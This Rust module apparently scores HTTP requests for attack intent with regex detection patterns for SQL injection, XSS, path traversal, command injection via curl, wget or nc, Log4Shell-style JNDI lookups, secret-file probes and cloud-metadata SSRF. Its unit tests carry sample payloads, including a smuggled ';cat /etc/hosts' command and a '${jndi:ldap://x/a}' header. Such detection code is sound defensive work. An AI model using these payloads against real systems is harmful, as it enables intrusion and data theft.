//! Attack signals in a request sample: what its path, query, body and headers say about intent.
//!
//! These are plain, explainable patterns (SQL injection, cross-site scripting, path traversal,
//! command injection, JNDI lookups, probes for secret files and CMS endpoints, scanner user
//! agents, cloud metadata addresses), run on the percent-decoded, lower-cased text. They are
//! evidence for a threat level, not a WAF: Cloudflare's managed rules see far more.

use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::rules::Request;

/// At most this many bytes of each part of a request are scanned.
const MAX_SCANNED_BYTES: usize = 256 * 1024;

/// At most this many characters of matched text are kept as evidence.
const MAX_EVIDENCE_CHARS: usize = 80;

/// One attack signal found in a request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RequestSignal {
    /// `sqli`, `xss`, `path_traversal`, `command_injection`, `jndi_lookup`, `secret_file_probe`,
    /// `cms_probe`, `scanner_user_agent`, `ssrf_metadata`.
    pub category: String,
    /// Where: `path`, `query`, `body`, `header:User-Agent`, ...
    pub location: String,
    /// The text that matched (decoded, at most 80 characters).
    pub evidence: String,
}

struct Pattern {
    category: &'static str,
    regex: &'static str,
    /// Which parts it applies to: `p`ath, `q`uery, `b`ody, `h`eaders, `u`ser agent only.
    parts: &'static str,
}

const PATTERNS: &[Pattern] = &[
    Pattern {
        category: "sqli",
        regex: r"union(\s|/\*.*?\*/)+(all(\s|/\*.*?\*/)+)?select|'\s*or\s+'?\d+'?\s*=\s*'?\d+|'\s*(--|#)|;\s*drop\s+table|\bsleep\s*\(\s*\d+\s*\)|\bbenchmark\s*\(|information_schema|\bwaitfor\s+delay\b|\bor\s+1\s*=\s*1\b",
        parts: "pqbh",
    },
    Pattern {
        category: "xss",
        regex: r"<\s*script|javascript\s*:|\bon(error|load|mouseover|focus)\s*=|<\s*svg[^>]*on\w+|<\s*iframe|document\.cookie|\balert\s*\(",
        parts: "pqbh",
    },
    Pattern {
        category: "path_traversal",
        regex: r"\.\./|\.\.\\|/etc/(passwd|shadow|hosts)|c:\\windows|/proc/self/",
        parts: "pqb",
    },
    Pattern {
        category: "command_injection",
        regex: r"[;|&`]\s*(cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|powershell)\b|\$\((cat|id|whoami|curl|wget)\b",
        parts: "qbh",
    },
    Pattern {
        category: "jndi_lookup",
        regex: r"\$\{\s*(jndi|\$\{|lower:|upper:|env:)",
        parts: "pqbh",
    },
    Pattern {
        category: "secret_file_probe",
        regex: r"/\.env(\.|$|/)|/\.git(/|$)|/\.aws/|/\.ssh/|id_rsa|wp-config\.php|/\.htpasswd|/config\.php\.bak|/\.ds_store",
        parts: "p",
    },
    Pattern {
        category: "cms_probe",
        regex: r"/wp-login\.php|/xmlrpc\.php|/wp-admin/|/phpmyadmin|/administrator/index\.php|/cgi-bin/|/vendor/phpunit/|/boaform/|/hnap1",
        parts: "p",
    },
    Pattern {
        category: "scanner_user_agent",
        regex: r"sqlmap|nikto|nmap|masscan|zgrab|nuclei|acunetix|wpscan|dirbuster|gobuster|ffuf|hydra|netsparker|openvas|w3af|havij",
        parts: "u",
    },
    Pattern {
        category: "ssrf_metadata",
        regex: r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[fd00:ec2::254\]",
        parts: "qbh",
    },
];

fn compiled() -> &'static [(usize, Regex)] {
    static COMPILED: OnceLock<Vec<(usize, Regex)>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        PATTERNS
            .iter()
            .enumerate()
            // The patterns are constants checked by a test; one that failed to compile would be
            // left out rather than panic.
            .filter_map(|(i, p)| Regex::new(p.regex).ok().map(|r| (i, r)))
            .collect()
    })
}

/// Percent-decodes twice (attackers double-encode), `+` as space, and lower-cases.
fn decoded(text: &str) -> String {
    let clipped = clip_bytes(text, MAX_SCANNED_BYTES);
    let once = percent_decode(&clipped.replace('+', " "));
    percent_decode(&once).to_lowercase()
}

fn clip_bytes(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            let hex = bytes
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The attack signals in a request, one per category and location, in pattern order.
///
/// ```
/// let request = cfcp::rules::Request::get("shop.example", "/search?q=1'+UNION+SELECT+password+FROM+users");
/// let signals = cfcp::oracle::request_signals(&request);
/// assert_eq!(signals[0].category, "sqli");
/// assert_eq!(signals[0].location, "query");
/// ```
pub fn request_signals(request: &Request) -> Vec<RequestSignal> {
    let mut parts: Vec<(char, String, String)> = vec![
        ('p', "path".to_owned(), decoded(&request.path)),
        ('q', "query".to_owned(), decoded(&request.query)),
        ('b', "body".to_owned(), decoded(&request.body)),
    ];
    for (name, value) in &request.headers {
        let part = if name.eq_ignore_ascii_case("user-agent") {
            'u'
        } else {
            'h'
        };
        parts.push((part, format!("header:{name}"), decoded(value)));
    }
    let mut out: Vec<RequestSignal> = Vec::new();
    for (index, regex) in compiled() {
        let pattern = &PATTERNS[*index];
        for (part, location, text) in &parts {
            // The user agent is also a header for the header patterns (log4shell lives there).
            let applies =
                pattern.parts.contains(*part) || (*part == 'u' && pattern.parts.contains('h'));
            if !applies || text.is_empty() {
                continue;
            }
            if let Some(m) = regex.find(text) {
                let duplicate = out
                    .iter()
                    .any(|s| s.category == pattern.category && &s.location == location);
                if !duplicate {
                    out.push(RequestSignal {
                        category: pattern.category.to_owned(),
                        location: location.clone(),
                        evidence: m.as_str().chars().take(MAX_EVIDENCE_CHARS).collect(),
                    });
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn categories(request: &Request) -> Vec<String> {
        request_signals(request)
            .into_iter()
            .map(|s| format!("{}@{}", s.category, s.location))
            .collect()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(compiled().len(), PATTERNS.len());
    }

    #[test]
    fn each_category_is_found_where_it_is() {
        let cases: &[(Request, &str)] = &[
            (Request::get("a", "/p?id=1%27%20or%201=1--"), "sqli@query"),
            (
                Request::get("a", "/p?q=%253Cscript%253Ealert(1)"),
                "xss@query",
            ),
            (
                Request::get("a", "/download?f=../../etc/passwd"),
                "path_traversal@query",
            ),
            (
                Request::get("a", "/ping?host=1.1.1.1;cat /etc/hosts"),
                "command_injection@query",
            ),
            (
                Request::get("a", "/").header("X-Api-Version", "${jndi:ldap://x/a}"),
                "jndi_lookup@header:X-Api-Version",
            ),
            (Request::get("a", "/.env"), "secret_file_probe@path"),
            (Request::get("a", "/.git/config"), "secret_file_probe@path"),
            (Request::get("a", "/wp-login.php"), "cms_probe@path"),
            (
                Request::get("a", "/").header("User-Agent", "sqlmap/1.7.2#stable"),
                "scanner_user_agent@header:User-Agent",
            ),
            (
                Request::get("a", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
                "ssrf_metadata@query",
            ),
        ];
        for (request, expected) in cases {
            let found = categories(request);
            assert!(found.iter().any(|c| c == expected), "{expected}: {found:?}");
        }
    }

    #[test]
    fn ordinary_requests_carry_no_signal() {
        for request in [
            Request::get("shop.example", "/products/42?colour=blue&size=m"),
            Request::get("shop.example", "/search?q=union+station+tickets"),
            Request::get("shop.example", "/blog/environment-report")
                .header("User-Agent", "Mozilla/5.0"),
            Request::get("shop.example", "/api/v1/orders?sort=-created"),
        ] {
            assert!(categories(&request).is_empty(), "{request:?}");
        }
    }

    #[test]
    fn percent_decoding_keeps_bad_escapes_and_multibyte_text() {
        assert_eq!(percent_decode("%41%zz%4"), "A%zz%4");
        assert_eq!(decoded("caf%C3%A9+%2541"), "café a");
        assert_eq!(clip_bytes("aé", 2), "a");
    }
}
